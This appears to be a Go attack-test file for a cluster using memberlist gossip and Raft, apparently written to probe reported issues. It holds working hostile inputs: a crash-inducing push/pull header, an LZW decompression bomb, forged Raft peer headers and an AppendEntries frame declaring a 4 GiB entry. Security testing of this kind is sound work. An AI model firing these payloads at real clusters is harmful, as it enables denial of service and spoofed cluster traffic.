package attack

import (
	"bufio"
	"bytes"
	"compress/lzw"
	"fmt"
	"net"
	"time"

	"github.com/hashicorp/go-msgpack/v2/codec"
	"github.com/hashicorp/raft"
)

// pushPullHeader is issue 9's 29-byte probe: a memberlist push/pull header
// declaring Nodes: -1 (memberlist v0.5.4 panicked making the slice).
var pushPullHeader = []byte{0x06, 0x83, 0xa5, 'N', 'o', 'd', 'e', 's', 0xff, 0xac, 'U', 's', 'e', 'r', 'S', 't', 'a', 't', 'e', 'L', 'e', 'n', 0x00, 0xa4, 'J', 'o', 'i', 'n', 0xc2}

// labelled prefixes a gossip packet with memberlist's label header (the
// label is no secret: it only tells clusters apart).
func labelled(label string, msg []byte) []byte {
	return append([]byte{244, byte(len(label))}, append([]byte(label), msg...)...)
}

// lzwBomb returns a memberlist compressed message (type 9) that inflates
// to n zero bytes.
func lzwBomb(n int) []byte {
	var z bytes.Buffer
	w := lzw.NewWriter(&z, lzw.LSB, 8)
	zeros := make([]byte, 1<<20)
	for left := n; left > 0; left -= len(zeros) {
		w.Write(zeros[:min(left, len(zeros))])
	}
	w.Close()
	var out bytes.Buffer
	out.WriteByte(9)
	codec.NewEncoder(&out, &codec.MsgpackHandle{}).Encode(struct {
		Algo uint8
		Buf  []byte
	}{0, z.Bytes()})
	return out.Bytes()
}

// Raft request types (raft/net_transport.go).
const (
	rpcAppendEntries byte = 0
	rpcRequestVote   byte = 1
	rpcTimeoutNow    byte = 3
)

// raftConn is a connection to a Raft port speaking Raft's wire format, as
// an attacker without the key would.
type raftConn struct {
	c   net.Conn
	r   *bufio.Reader
	enc *codec.Encoder
	dec *codec.Decoder
}

// dialRaft connects to addr from local (nil: any address).
func dialRaft(addr string, local net.IP) (*raftConn, error) {
	d := net.Dialer{Timeout: 2 * time.Second}
	if local != nil {
		d.LocalAddr = &net.TCPAddr{IP: local}
	}
	c, err := d.Dial("tcp", addr)
	if err != nil {
		return nil, err
	}
	r := bufio.NewReader(c)
	return &raftConn{c: c, r: r, enc: codec.NewEncoder(c, &codec.MsgpackHandle{}), dec: codec.NewDecoder(r, &codec.MsgpackHandle{})}, nil
}

// call sends one request and reads its answer within 3 s.
func (rc *raftConn) call(t byte, req, resp any) error {
	rc.c.SetDeadline(time.Now().Add(3 * time.Second))
	if _, err := rc.c.Write([]byte{t}); err != nil {
		return err
	}
	if err := rc.enc.Encode(req); err != nil {
		return err
	}
	var rpcErr string
	if err := rc.dec.Decode(&rpcErr); err != nil {
		return fmt.Errorf("no answer: %w", err)
	}
	if err := rc.dec.Decode(resp); err != nil {
		return fmt.Errorf("no answer: %w", err)
	}
	if rpcErr != "" {
		return fmt.Errorf("raft: %s", rpcErr)
	}
	return nil
}

func (rc *raftConn) Close() error { return rc.c.Close() }

// header claims to come from peer id at addr.
func header(id int, addr string) raft.RPCHeader {
	return raft.RPCHeader{ProtocolVersion: raft.ProtocolVersionMax, ID: []byte(fmt.Sprint(id)), Addr: []byte(addr)}
}

// hugeEntryFrame is the head of an AppendEntries whose one entry declares
// 4 GiB of data; the caller streams the data after it.
func hugeEntryFrame(h raft.RPCHeader) []byte {
	var b bytes.Buffer
	b.WriteByte(rpcAppendEntries)
	enc := codec.NewEncoder(&b, &codec.MsgpackHandle{})
	// A map of 3: RPCHeader fields are flattened by the codec; Term; Entries.
	b.WriteByte(0x83)
	enc.Encode("ID")
	enc.Encode(h.ID)
	enc.Encode("Term")
	enc.Encode(uint64(1 << 40))
	enc.Encode("Entries")
	b.WriteByte(0x91) // array of 1
	b.WriteByte(0x83) // Log: Index, Term, Data
	enc.Encode("Index")
	enc.Encode(uint64(1 << 40))
	enc.Encode("Term")
	enc.Encode(uint64(1 << 40))
	enc.Encode("Data")
	b.Write([]byte{0xc6, 0xff, 0xff, 0xff, 0xff}) // bin32 of 4 GiB
	return b.Bytes()
}
